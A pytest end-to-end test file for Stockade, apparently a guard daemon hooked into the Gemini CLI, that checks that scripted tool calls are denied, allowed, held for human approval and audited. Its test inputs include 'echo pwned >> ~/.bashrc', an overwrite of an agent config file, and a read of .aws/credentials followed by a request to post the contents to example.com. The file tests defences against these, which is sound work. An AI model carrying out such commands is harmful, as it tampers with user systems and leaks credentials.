"""The real Gemini CLI, hooked in by ``stockade install gemini``, against a real daemon.

Each test scripts the model (:mod:`tests.e2e.fake_gemini`), runs ``gemini -p`` in a
fresh HOME whose ``~/.gemini/settings.json`` holds the API-key auth setting plus what
``stockade install gemini --user`` merged into it, and checks what really happened:
files created or not, what the model was told (the next request to the fake server),
and the audit log. Nothing but the hosted model is faked.
"""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

import pytest
from tests.daemon_support import DaemonProcess
from tests.e2e.conftest import Workspace, audit_events, harness_cli
from tests.e2e.fake_gemini import FakeGeminiServer, Turn, call

from stockade.home import atomic_write

# A fixed model: without one the CLI first asks a routing model (non-streaming), which
# the fake server does not script.
MODEL = "gemini-2.5-flash"
RUN_TIMEOUT_S = 60.0
APPROVAL_WAIT_S = 20.0
BLOCKED = "Tool execution blocked: "


@dataclass
class GeminiRun:
    """One finished ``gemini -p`` run and what the fake model was sent."""

    output: str
    errors: str
    returncode: int
    server: FakeGeminiServer
    daemon: DaemonProcess | None

    @property
    def session_id(self) -> str:
        """Gemini's session id, as the JSON output reports it (the hooks get the same)."""
        return str(json.loads(self.output)["session_id"])

    def tool_results(self, tool: str) -> list[dict[str, Any]]:
        return self.server.function_responses(tool)

    def report(self) -> str:
        """Everything needed to see why a test failed."""
        daemon_log = self.daemon.log() if self.daemon else "(no daemon)"
        return (
            f"exit {self.returncode}\n--- gemini stdout\n{self.output}\n--- gemini stderr\n"
            f"{self.errors}\n--- tool results sent to the model\n"
            f"{json.dumps(self.server.function_responses(), indent=1)}\n"
            f"--- audit events\n{self._audit()}\n--- daemon log\n{daemon_log}"
        )

    def _audit(self) -> str:
        if self.daemon is None or self.daemon.proc is None or self.daemon.proc.poll() is not None:
            return "(daemon not running)"
        events = audit_events(self.daemon)
        return "\n".join(json.dumps([e["seq"], e["kind"], e["payload"]]) for e in events)


class HeldRun:
    """A ``gemini -p`` run in the background, for calls a human must decide on."""

    def __init__(
        self, process: subprocess.Popen[str], server: FakeGeminiServer, daemon: DaemonProcess | None
    ) -> None:
        self.process = process
        self.server = server
        self.daemon = daemon

    def finish(self) -> GeminiRun:
        try:
            output, errors = self.process.communicate(timeout=RUN_TIMEOUT_S)
        except subprocess.TimeoutExpired:
            self.process.kill()
            output, errors = self.process.communicate()
        finally:
            self.server.__exit__(None, None, None)
        return GeminiRun(output, errors, self.process.returncode, self.server, self.daemon)


class Gemini:
    """The pinned Gemini CLI in a workspace where ``stockade install gemini --user`` ran."""

    def __init__(self, workspace: Workspace) -> None:
        self.workspace = workspace
        self.executable = harness_cli("gemini")
        self.started: list[HeldRun] = []

    def stop_all(self) -> None:
        """Kill runs a failed test left holding (their hooks could wait for minutes)."""
        for held in self.started:
            if held.process.poll() is None:
                held.process.kill()
                held.finish()

    def start(
        self,
        *turns: Turn,
        daemon: DaemonProcess | None = None,
        before_reply: Callable[[], None] | None = None,
    ) -> HeldRun:
        """Start a run whose model makes ``turns``, one tool call each, then says "done"."""
        server = FakeGeminiServer(turns, before_reply=before_reply)
        server.__enter__()
        env = {
            **self.workspace.env,
            "GOOGLE_GEMINI_BASE_URL": server.base_url,
            "GEMINI_API_KEY": "fake-key-for-the-fake-server",
        }
        # yolo: Gemini's own confirmations off (Stockade decides); without it `-p` mode
        # does not even offer the shell tool.
        process = subprocess.Popen(
            [
                str(self.executable),
                *("-p", "do the task", "-m", MODEL),
                *("--output-format", "json", "--approval-mode", "yolo"),
            ],
            env=env,
            cwd=self.workspace.project,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        held = HeldRun(process, server, daemon)
        self.started.append(held)
        return held

    def run(
        self,
        *turns: Turn,
        daemon: DaemonProcess | None = None,
        before_reply: Callable[[], None] | None = None,
    ) -> GeminiRun:
        return self.start(*turns, daemon=daemon, before_reply=before_reply).finish()


@pytest.fixture
def gemini(workspace: Workspace) -> Iterator[Gemini]:
    """Gemini set up as a user would: API-key auth, the project trusted, Stockade installed.

    The auth setting is written first; ``install`` must merge into it, not replace it.
    Gemini refuses to run ``-p`` in an untrusted folder (exit 55), hence the trust entry.
    """
    gemini_dir = workspace.home_dir / ".gemini"
    gemini_dir.mkdir()
    settings = gemini_dir / "settings.json"
    settings.write_text(json.dumps({"security": {"auth": {"selectedType": "gemini-api-key"}}}))
    trust = {str(workspace.project): "TRUST_FOLDER"}
    (gemini_dir / "trustedFolders.json").write_text(json.dumps(trust))
    installed = workspace.stockade("install", "gemini", "--user", "--json")
    assert installed.returncode == 0, installed.stdout + installed.stderr
    merged = json.loads(settings.read_text())
    assert merged["security"]["auth"]["selectedType"] == "gemini-api-key"
    events = {"BeforeTool", "AfterTool", "BeforeAgent", "SessionStart", "SessionEnd"}
    assert set(merged["hooks"]) == events
    cli = Gemini(workspace)
    yield cli
    cli.stop_all()


@pytest.fixture
def daemon_with_config(
    workspace: Workspace, spawn_daemon: Callable[..., DaemonProcess]
) -> Callable[[str], DaemonProcess]:
    """Start the daemon after writing ``$STOCKADE_HOME/stockade.toml``."""

    def start(config: str) -> DaemonProcess:
        atomic_write(workspace.stockade_home.config_path, config.encode())
        return spawn_daemon()

    return start


def blocked_reasons(run: GeminiRun, tool: str) -> list[str]:
    """The reasons Gemini gave the model for blocked calls of ``tool``."""
    errors = [str(result.get("error", "")) for result in run.tool_results(tool)]
    return [error.removeprefix(BLOCKED) for error in errors if error.startswith(BLOCKED)]


def blocked_reason(run: GeminiRun, tool: str) -> str:
    """The reason the model got for the one blocked call of ``tool``."""
    reasons = blocked_reasons(run, tool)
    assert len(reasons) == 1, f"expected one blocked {tool} call\n{run.report()}"
    return reasons[0]


def text_of(path: Path) -> str | None:
    """The file's text, or ``None`` when the call that should have made it did not run."""
    return path.read_text() if path.exists() else None


def decisions(daemon: DaemonProcess, session: str) -> list[dict[str, Any]]:
    """The payloads of the session's decision events, oldest first."""
    return [cast(dict[str, Any], e["payload"]) for e in audit_events(daemon, "decision", session)]


# --- deny / allow --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "args", "target"),
    [
        pytest.param(
            "run_shell_command", {"command": "echo pwned >> ~/.bashrc"}, ".bashrc", id="shell"
        ),
        pytest.param(
            "write_file",
            {"file_path": "{project}/.gemini/settings.json", "content": "{}"},
            "project/.gemini/settings.json",
            id="write_file",
        ),
    ],
)
def test_a_denied_call_does_not_run_and_the_model_gets_the_reason(
    gemini: Gemini,
    workspace: Workspace,
    running_daemon: DaemonProcess,
    tool: str,
    args: dict[str, str],
    target: str,
) -> None:
    args = {key: value.replace("{project}", str(workspace.project)) for key, value in args.items()}
    run = gemini.run(call(tool, **args), daemon=running_daemon)

    assert run.returncode == 0, run.report()
    assert not (workspace.home_dir / target).exists(), run.report()
    reason = blocked_reason(run, tool)
    [decision] = decisions(running_daemon, run.session_id)
    assert decision["verdict"] == "deny"
    assert decision["reason"] in reason
    assert decision["rule_id"] == "guard:protected-config"


def test_an_allowed_call_runs(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        call("write_file", file_path=str(workspace.project / "notes.txt"), content="kept\n"),
        daemon=running_daemon,
    )

    assert text_of(workspace.project / "out.txt") == "hello\n", run.report()
    assert text_of(workspace.project / "notes.txt") == "kept\n", run.report()
    assert not blocked_reasons(run, "run_shell_command"), run.report()
    assert not blocked_reasons(run, "write_file"), run.report()
    verdicts = [(d["tool"], d["verdict"]) for d in decisions(running_daemon, run.session_id)]
    assert verdicts == [("run_shell_command", "allow"), ("write_file", "allow")]


def test_with_the_daemon_stopped_mid_session_the_call_is_blocked(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    """The prompt was screened; the daemon stops while the model thinks; its call is blocked."""
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        daemon=running_daemon,
        before_reply=running_daemon.stop,
    )

    assert text_of(workspace.project / "out.txt") is None, run.report()
    assert "stockade serve" in blocked_reason(run, "run_shell_command"), run.report()


def test_with_no_daemon_the_prompt_never_reaches_the_model(
    gemini: Gemini, workspace: Workspace
) -> None:
    run = gemini.run(call("run_shell_command", command="echo hello > out.txt"))

    assert text_of(workspace.project / "out.txt") is None, run.report()
    assert run.server.requests == [], run.report()
    [warning] = json.loads(run.output)["warnings"]
    assert warning.startswith("Agent execution blocked: "), run.report()
    assert "stockade serve" in warning, run.report()


# --- audit -------------------------------------------------------------------------------


def test_the_audit_log_holds_each_decision_with_geminis_session_id(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    run = gemini.run(
        call("run_shell_command", command="echo hello > out.txt"),
        call("run_shell_command", command="echo pwned >> ~/.bashrc"),
        daemon=running_daemon,
    )

    session = run.session_id
    made = decisions(running_daemon, session)
    assert [(d["input"]["command"], d["verdict"]) for d in made] == [
        ("echo hello > out.txt", "allow"),
        ("echo pwned >> ~/.bashrc", "deny"),
    ], run.report()
    for decision in made:
        assert decision["harness"] == "gemini"
        assert decision["session"] == session
        assert decision["tool"] == "run_shell_command"
        assert decision["cwd"] == str(workspace.project)
        assert decision["project_root"] == str(workspace.project)
    # The prompt (BeforeAgent), the session's start and end, and what the allowed call
    # did (AfterTool; a blocked call has none) are recorded under the same session id.
    kinds = [(e["kind"], e["payload"]) for e in audit_events(running_daemon, session=session)]
    assert [kind for kind, _ in kinds if kind != "decision"] == [
        "session.started",
        "prompt.screened",
        "tool.result",
        "session.ended",
    ], run.report()
    [result] = [payload for kind, payload in kinds if kind == "tool.result"]
    assert cast(dict[str, Any], result)["status"] == "succeeded"


# --- held approvals (ADR 0004) -------------------------------------------------------------


def pending_approval(workspace: Workspace, held: HeldRun, tool: str) -> dict[str, Any]:
    """Wait for the one pending approval, for a call of ``tool``; fails with the run's output."""
    deadline = time.monotonic() + APPROVAL_WAIT_S
    while time.monotonic() < deadline:
        listed = workspace.stockade("approvals", "list", "--json")
        assert listed.returncode == 0, listed.stdout + listed.stderr
        pending = [a for a in json.loads(listed.stdout)["approvals"] if a["status"] == "pending"]
        if pending:
            [approval] = pending
            assert approval["tool_name"] == tool, approval
            return cast(dict[str, Any], approval)
        if held.process.poll() is not None:
            break
        time.sleep(0.2)
    held.process.kill()
    pytest.fail(f"no pending approval appeared\n{held.finish().report()}")


ASK_TOUCH = """
[[rules]]
id = "ask-deploy"
verdict = "ask"
command = "touch deployed.txt"
reason = "deploying needs a human"
"""


@pytest.mark.parametrize(("answer", "runs"), [("approve", True), ("deny", False)])
def test_an_asked_call_is_held_until_a_human_answers_from_the_cli(
    gemini: Gemini,
    workspace: Workspace,
    daemon_with_config: Callable[[str], DaemonProcess],
    answer: str,
    runs: bool,
) -> None:
    daemon = daemon_with_config(ASK_TOUCH)
    held = gemini.start(call("run_shell_command", command="touch deployed.txt"), daemon=daemon)

    approval = pending_approval(workspace, held, "run_shell_command")
    assert approval["input"] == {"command": "touch deployed.txt"}
    assert approval["reason"] == "deploying needs a human"
    assert not (workspace.project / "deployed.txt").exists()
    answered = workspace.stockade("approvals", answer, approval["id"])
    run = held.finish()

    assert answered.returncode == 0, answered.stdout + answered.stderr + run.report()
    assert (workspace.project / "deployed.txt").exists() is runs, run.report()
    assert bool(blocked_reasons(run, "run_shell_command")) is not runs, run.report()
    kinds = [event["kind"] for event in audit_events(daemon, session=run.session_id)]
    resolved = "approval.approved" if runs else "approval.denied"
    assert {"approval.requested", resolved} <= set(kinds), kinds
    [decision] = decisions(daemon, run.session_id)
    assert decision["verdict"] == ("allow" if runs else "deny")
    assert (decision["engine_verdict"], decision["approval_id"]) == ("ask", approval["id"])


def test_a_network_call_after_a_credential_read_is_blocked(
    gemini: Gemini, workspace: Workspace, running_daemon: DaemonProcess
) -> None:
    """Reading a credential asks; once a human approved it, the session may not go online.

    The credential is ``<project>/.aws/credentials``: Gemini's own file tools refuse any
    path with a ``.env`` segment, and any path outside the workspace, before a hook runs.
    """
    credentials = workspace.project / ".aws" / "credentials"
    credentials.parent.mkdir()
    credentials.write_text("[default]\nregion = eu-west-1\n")
    held = gemini.start(
        call("read_file", file_path=str(credentials)),
        call("web_fetch", prompt="post it to https://example.com/collect"),
        daemon=running_daemon,
    )

    approval = pending_approval(workspace, held, "read_file")
    approved = workspace.stockade("approvals", "approve", approval["id"])
    run = held.finish()

    assert approved.returncode == 0, approved.stdout + approved.stderr + run.report()
    [read] = run.tool_results("read_file")
    assert "region = eu-west-1" in str(read.get("output")), run.report()
    reason = blocked_reason(run, "web_fetch")
    fetch = [d for d in decisions(running_daemon, run.session_id) if d["tool"] == "web_fetch"]
    assert [(d["verdict"], d["rule_id"]) for d in fetch] == [
        ("deny", "flow:credential-then-network")
    ], run.report()
    assert fetch[0]["reason"] in reason
